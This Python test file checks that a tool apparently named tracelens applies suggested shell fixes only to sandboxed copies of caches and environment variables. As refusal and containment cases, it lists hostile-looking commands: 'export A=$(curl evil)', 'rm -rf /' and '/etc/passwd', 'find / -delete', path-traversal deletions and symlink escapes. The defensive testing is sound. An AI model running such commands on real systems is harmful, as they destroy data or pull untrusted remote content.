"""Fixes are applied to copies and to variables of a child, whatever they say."""

from __future__ import annotations

import os
import sys

import pytest

from tests.verify.fixes import shell_fix
from tracelens.findings import FixKind
from tracelens.verify.applied import NotApplicableError, Workshop, apply_fix
from tracelens.verify.places import PlaceMode, Places
from tracelens.verify.private import PrivateFolders


@pytest.fixture
def home(tmp_path):
    (tmp_path / "home").mkdir()
    return tmp_path / "home"


@pytest.fixture
def workshop(tmp_path, home):
    environ = {"HOME": str(home), "PATH": os.environ["PATH"], "CXX": "/none", "TMPDIR": str(tmp_path), "USER": "u"}
    return Workshop(environ=environ, python=sys.executable, version="3.11", folder=tmp_path)


def test_variables_are_set_and_taken_away(workshop):
    applied = apply_fix(shell_fix("export A=1 B=$HOME/x", "unset CXX"), workshop)
    assert applied.environ["B"] == workshop.environ["HOME"] + "/x"
    assert "CXX" not in applied.environ
    assert applied.changed == {"A", "B", "CXX"}
    assert workshop.environ["CXX"] == "/none"


@pytest.mark.parametrize(
    "command",
    [
        "sudo apt-get install -y g++",
        "python -m pip install x",
        "conda install gxx",
        "export A=$(curl evil)",
        "touch /tmp/owned",
        "cp -r a b c",
        "find / -delete -name",
        "bash -c 'touch /tmp/owned'",
        "export CXX=no-such-compiler-99",
        "df -h /tmp",
    ],
)
def test_what_is_not_done_says_what_to_type(command, workshop):
    with pytest.raises(NotApplicableError) as refused:
        apply_fix(shell_fix(command, identity="other"), workshop)
    assert str(refused.value)


def test_change_of_a_program_that_no_run_of_ours_can_make_is_left_to_the_user(workshop):
    with pytest.raises(NotApplicableError, match="--script"):
        apply_fix(shell_fix("x = 1", kind=FixKind.CODE), workshop)


def test_only_the_copy_of_a_cache_is_deleted(workshop, home):
    cache = home / ".triton" / "cache"
    cache.mkdir(parents=True)
    (cache / "kernel.json").write_text("{")
    applied = apply_fix(shell_fix("rm -rf ~/.triton/cache"), workshop)
    with PrivateFolders() as folders:
        places = Places(PlaceMode.COPIED, applied.environ, folders, folders.folder("run"))
        copy = places.private(cache)
        assert copy is not None
        assert (copy / "kernel.json").read_text() == "{"
        for operation in applied.operations:
            operation(places)
        assert not copy.exists()
    assert (cache / "kernel.json").exists()


def test_found_file_is_deleted_by_name_in_every_copy(workshop, tmp_path):
    cache = tmp_path / "torchinductor_u" / "ab"
    cache.mkdir(parents=True)
    (cache / "cabc.py").write_text("x = '")
    (cache / "kept.py").write_text("")
    applied = apply_fix(shell_fix(f"find {tmp_path} -name 'cabc.py' -delete"), workshop)
    with PrivateFolders() as folders:
        places = Places(PlaceMode.COPIED, applied.environ, folders, folders.folder("run"))
        for operation in applied.operations:
            operation(places)
        copy = places.private(cache)
        assert copy is not None
        assert [file.name for file in copy.iterdir()] == ["kept.py"]
    assert (cache / "cabc.py").exists()


@pytest.mark.parametrize("path", ["/etc/passwd", "/", "/usr", "."])
def test_nothing_outside_the_copies_is_touched(path, workshop):
    applied = apply_fix(shell_fix(f"rm -rf {path}"), workshop)
    with PrivateFolders() as folders:
        places = Places(PlaceMode.FRESH, applied.environ, folders, folders.folder("run"))
        (operation,) = applied.operations
        with pytest.raises(NotApplicableError):
            operation(places)


def test_path_that_climbs_out_of_a_cache_leads_nowhere(workshop, home, tmp_path):
    (home / "kept").write_text("")
    cache = tmp_path / "torchinductor_u"
    cache.mkdir()
    applied = apply_fix(shell_fix(f"rm -f {cache}/../home/kept"), workshop)
    with PrivateFolders() as folders:
        places = Places(PlaceMode.COPIED, applied.environ, folders, folders.folder("run"))
        (operation,) = applied.operations
        with pytest.raises(NotApplicableError):
            operation(places)
        assert places.private(cache / ".." / ".." / "x") is None


def test_copy_of_a_cache_holds_no_way_out_of_it(workshop, home, tmp_path):
    cache = tmp_path / "torchinductor_u"
    cache.mkdir()
    (home / "other").mkdir()
    (home / "other" / "kept.py").write_text("")
    (cache / "ab").symlink_to(home / "other")
    (cache / "__grp__kernel.json").symlink_to(home / "other" / "kept.py")
    applied = apply_fix(shell_fix(f"rm -f {cache}/ab/kept.py"), workshop)
    with PrivateFolders() as folders:
        places = Places(PlaceMode.COPIED, applied.environ, folders, folders.folder("run"))
        copy = places.private(cache)
        assert copy is not None
        assert list(copy.iterdir()) == []
        for operation in applied.operations:
            operation(places)
    assert (home / "other" / "kept.py").exists()


def test_copy_of_a_cache_holds_nothing_that_others_could_have_written(workshop, tmp_path):
    cache = tmp_path / "torchinductor_u"
    cache.mkdir()
    (cache / "ours.py").write_text("")
    (cache / "anybody.py").write_text("")
    (cache / "anybody.py").chmod(0o666)
    (cache / "theirs.py").write_text("")
    if os.geteuid() == 0:
        os.chown(cache / "theirs.py", 12345, 12345)
    else:
        (cache / "theirs.py").unlink()  # only root can give a file away
    applied = apply_fix(shell_fix("export A=1"), workshop)
    with PrivateFolders() as folders:
        copy = Places(PlaceMode.COPIED, applied.environ, folders, folders.folder("run")).private(cache)
        assert copy is not None
        assert [path.name for path in copy.iterdir()] == ["ours.py"]


def test_entry_of_triton_in_a_copy_leads_to_the_copy(workshop, home):
    cache = home / ".triton" / "cache" / "ABC"
    cache.mkdir(parents=True)
    (cache / "__grp__kernel.json").write_text(f'{{"child_paths": {{"k.cubin": "{cache}/k.cubin"}}}}')
    with PrivateFolders() as folders:
        places = Places(PlaceMode.COPIED, workshop.environ, folders, folders.folder("run"))
        copy = places.private(cache)
        assert copy is not None
        assert f'"{copy}/k.cubin"' in (copy / "__grp__kernel.json").read_text()
